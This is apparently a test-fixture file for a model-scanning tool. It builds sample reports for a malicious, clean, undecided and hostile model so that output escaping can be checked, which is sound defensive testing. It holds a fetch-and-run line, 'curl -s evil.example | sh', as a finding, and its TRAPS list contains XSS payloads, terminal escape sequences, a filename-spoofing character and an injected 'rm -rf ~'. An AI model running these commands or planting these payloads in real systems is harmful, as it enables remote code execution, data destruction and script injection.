"""Scan objects as `assay scan` would build them: a bad model, a clean one, an undecided one, and one full of traps."""

from __future__ import annotations

import hashlib
from typing import Any

from assay.reports import RuleNote, scan_report

SCALE = 1_000_000


def bad() -> dict[str, Any]:
    """A "MIT" model derived from Llama 2, whose pickle would call a shell."""
    findings = [
        finding("SEC101-pickle-call", "secure", "critical", 'loading this file calls posix.system("curl -s evil.example | sh")',
                file="pytorch_model.bin", location="member archive/data.pkl, offset 187",
                fix="Convert it without running anything: assay fix PATH",
                detail={"callable": "posix.system", "args": ["curl -s evil.example | sh"], "offset": 187}),
        finding("OPN203-inherited-terms", "open", "high",
                "declared MIT, but Llama 2 is the parent: its community licence limits use above 700 million users",
                file="README.md", location="key license", fix="Declare llama2 and keep its notice, or start from an open parent."),
        finding("OPN202-licence-text", "open", "medium", "no licence text comes with the model",
                fix="Add the text of the licence as LICENSE: assay fix PATH"),
        finding("POR301-unguarded-cuda", "portable", "medium", "imports flash_attn without a way round it",
                file="modeling_helper.py", location="line 12", fix="Guard the import and fall back to plain attention."),
        finding("EVA401-bare-score", "evaluated", "low", "a score of 0.71 on MMLU names no data digest",
                file="README.md", location="key model-index", fix="Run it here: assay eval BENCHMARK MODEL"),
        passing("SEC102-safetensors-header", "secure"), passing("SEC104-secrets", "secure"),
        passing("POR302-vendor-format", "portable"),
        finding("PRO501-signature", "provenance", "info", "no signature says who published this", outcome="unknown",
                fix="Sign it: assay attest PATH"),
    ]  # fmt: skip
    axes = {
        "secure": axis("fail", 'loading this file calls posix.system("curl -s evil.example | sh").'),
        "open": axis(
            "fail", "declared MIT, but Llama 2 is the parent: its community licence limits use; 1 more fails."
        ),
        "portable": axis("fail", "imports flash_attn without a way round it."),
        "evaluated": axis("unknown", "No result is bound to this revision."),
        "provenance": axis("unknown", "no signature says who published this."),
    }
    verdict = {
        "policy": "default",
        "outcome": "refuse",
        "because": [
            reason("refuse", "deny", "runs-code", "Loading it would run code of somebody's choice."),
            reason("refuse", "deny", "terms-broken", "It promises more than the terms of its parent allow."),
        ],
        "would_change_if": [
            {"verdict": "admit", "changes": ["no file calls code when loaded", "the declared licence is Llama 2's"]}
        ],
    }
    files = [
        file("LICENSE-NOTE.txt", 212, "text"), file("README.md", 1_840, "card"), file("config.json", 655, "json"),
        file("modeling_helper.py", 9_301, "python"), file("pytorch_model.bin", 13_476 * SCALE, "zip"),
        file("tokenizer.json", 2 * SCALE, "json"),
    ]  # fmt: skip
    return scan("./llama-2-helper", files, findings, axes, verdict)


def clean() -> dict[str, Any]:
    """A model with nothing to say against it, signed."""
    findings = [
        passing("SEC101-pickle-call", "secure"), passing("SEC102-safetensors-header", "secure"),
        passing("OPN201-licence", "open"), passing("POR302-vendor-format", "portable"),
        passing("EVA401-bare-score", "evaluated"), passing("PRO501-signature", "provenance"),
    ]  # fmt: skip
    axes = {
        "secure": axis("pass", "2 checks passed."),
        "open": axis("pass", "1 check passed."),
        "portable": axis("pass", "1 check passed."),
        "evaluated": axis("pass", "ledger-qa: 41 of 60 right (0.56 to 0.79)."),
        "provenance": axis("pass", "Published under a trusted signature; 1 check passed."),
    }
    because = [reason("admit", "deny", "runs-code", "Loading it runs code."),
               reason("admit", "require", "licence-known", "Nobody knows under what licence it comes.")]  # fmt: skip
    verdict = {"policy": "default", "outcome": "admit", "because": because, "would_change_if": []}
    files = [file("LICENSE", 11_357, "licence"), file("README.md", 2_100, "card"), file("config.json", 512, "json"),
             file("model.safetensors", 268 * SCALE, "safetensors")]  # fmt: skip
    signed = {"digest": sha("statement"), "keyid": sha("key")}
    return scan("./ledger-small", files, findings, axes, verdict, statement=signed)


def undecided() -> dict[str, Any]:
    """A remote model of which two files could not be read."""
    why = "the zip directory lies outside the file"
    findings = [
        finding("SEC101-pickle-call", "secure", "info", f"not judged: {why}", outcome="unknown", file="weights/part-2.bin"),
        finding("PRO502-parent", "provenance", "info", "the card names no base model", outcome="unknown",
                file="README.md", fix="Name it in the card: base_model: ORG/NAME"),
        passing("SEC104-secrets", "secure"), passing("OPN201-licence", "open"), passing("POR302-vendor-format", "portable"),
    ]  # fmt: skip
    axes = {
        "secure": axis("unknown", f"not judged: {why}."),
        "open": axis("pass", "1 check passed."),
        "portable": axis("pass", "1 check passed."),
        "evaluated": axis("unknown", "No result is bound to this revision."),
        "provenance": axis("unknown", "the card names no base model."),
    }
    verdict = {
        "policy": "commercial",
        "outcome": "undecided",
        "because": [
            reason(
                "undecided", "require", "safe-to-load", "Nobody showed that loading it is safe.", missing=["secure.ok"]
            ),
        ],
        "would_change_if": [{"verdict": "admit", "changes": ["secure is known to be ok"]}],
    }
    files = [file("README.md", 900, "card"),
             file("weights/part-1.bin", 4_000 * SCALE, "zip", grade="claimed by upstream"),
             file("weights/part-2.bin", 4_000 * SCALE, "zip", grade="not known"),
             file("weights/vocab.spm", 500_000, "unclaimed", grade="claimed by upstream")]  # fmt: skip
    return scan("https://hub.example/orga/model@main", files, findings, axes, verdict, source="hub",
                git_commit="4f2c" * 10, isolation="not isolated",
                not_judged=[{"file": "weights/part-2.bin", "reason": why}],
                not_examined=["weights/vocab.spm"])  # fmt: skip


TRAPS = (
    "\x1b[2J\x1b]0;owned\x07", "a\nb\r\nc", "\u202egnp.exe", "\u200bzero\u2060width", "\x9b31m", "\ud800lone",
    "<script>alert(1)</script>", "'\"><img src=x onerror=alert(1)>", "[click](javascript:alert(1))",
    "![x](https://evil.example/p.png)", "| a | b |", "`code` ```", "@everyone #1 https://evil.example www.evil.example",
    "{0} {1}", "</style><base href=//evil>", "--flag; rm -rf ~", "# heading", "<!-- -->", "\U000e0041tag", "𓀀 漢字 ñ",
)  # fmt: skip


def hostile() -> dict[str, Any]:
    """Every place that holds text from outside holds something that would do harm if it were not escaped."""
    every = " ".join(TRAPS)
    findings = [
        finding("SEC101-pickle-call", "secure", "critical", f"calls {trap}", file=f"{trap}.bin", location=f"member {trap}, offset 7",
                fix=f"remove {trap}", detail={trap: trap})
        for trap in TRAPS
    ]  # fmt: skip
    findings.append(finding(f"OPN999-{every}", "open", "low", every, file=every, location=every, fix=every))
    findings.append(finding("POR300-loud", "portable", "info", "x" * 5_000, outcome="unknown", file="y" * 3_000))
    axes = {name: axis("fail", every) for name in ("secure", "open", "portable", "evaluated", "provenance")}
    verdict = {"policy": every, "outcome": "refuse", "because": [reason("refuse", "deny", every, every)],
               "would_change_if": [{"verdict": "admit", "changes": [every]}]}  # fmt: skip
    files = [file(f"{trap}.bin", 7, "pickle", digest=False) for trap in TRAPS]
    return scan(every, files, findings, axes, verdict, not_judged=[{"file": trap, "reason": trap} for trap in TRAPS],
                not_examined=list(TRAPS))  # fmt: skip


SAMPLES = {"bad": bad, "clean": clean, "undecided": undecided, "hostile": hostile}

RULES: dict[str, RuleNote] = {
    "SEC101-pickle-call": {
        "title": "A pickle calls something that is not on the list of what frameworks write.",
        "page": "A pickle calls something that is not on the list of what frameworks write.\n\n"
                "A pickle is a program: loading it may call any function.\n\nFix: convert to safetensors.",
        "severity": "critical",
    },
    "PRO501-signature": {"title": "Nobody signed this.", "page": "Nobody signed this.", "severity": "info"},
}  # fmt: skip


def scan(name: str, files: list[Any], findings: list[Any], axes: Any, verdict: Any, *, source: str = "folder",
         isolation: str = "isolated", git_commit: str | None = None, statement: Any = None, not_judged: Any = (),
         not_examined: Any = ()) -> dict[str, Any]:  # fmt: skip
    predicate = {
        "tool": {"name": "assay", "version": "0.1.0"}, "readers": ["json/1"], "checks": ["SEC101/1"], "rules": sha("rules"),
        "files": files, "findings": findings, "facts": {}, "not_judged": list(not_judged), "not_examined": list(not_examined),
    }  # fmt: skip
    statement = statement or {"digest": sha("statement"), "keyid": None}
    return scan_report(
        name, source, predicate, axes, verdict, isolation=isolation, git_commit=git_commit, statement=statement
    )


def finding(rule: str, axis: str, severity: str, message: str, *, outcome: str = "fail", file: str | None = None,
            location: str | None = None, fix: str | None = None, detail: Any = None) -> dict[str, Any]:  # fmt: skip
    return {"rule": rule, "axis": axis, "outcome": outcome, "severity": severity, "confidence": "high", "message": message,
            "file": file, "location": location, "fix": fix, "detail": detail or {}}  # fmt: skip


def passing(rule: str, axis: str) -> dict[str, Any]:
    return finding(rule, axis, "info", "nothing to say", outcome="pass")


def axis(outcome: str, why: str) -> dict[str, Any]:
    return {"outcome": outcome, "reason": why, "statements": [sha("statement")]}


def reason(outcome: str, kind: str, name: str, say: str, missing: Any = ()) -> dict[str, Any]:
    return {
        "rule": {"kind": kind, "name": name},
        "outcome": outcome,
        "say": say,
        "missing": list(missing),
        "statements": [],
    }


def file(path: str, size: int, format: str, *, grade: str = "computed", digest: bool = True) -> dict[str, Any]:
    known = digest and grade != "not known"
    return {"path": path, "size": size, "sha256": sha(path) if known else None,
            "digest": grade if digest else "not known", "format": format}  # fmt: skip


def sha(text: str) -> str:
    return hashlib.sha256(text.encode("utf-8", "surrogatepass")).hexdigest()
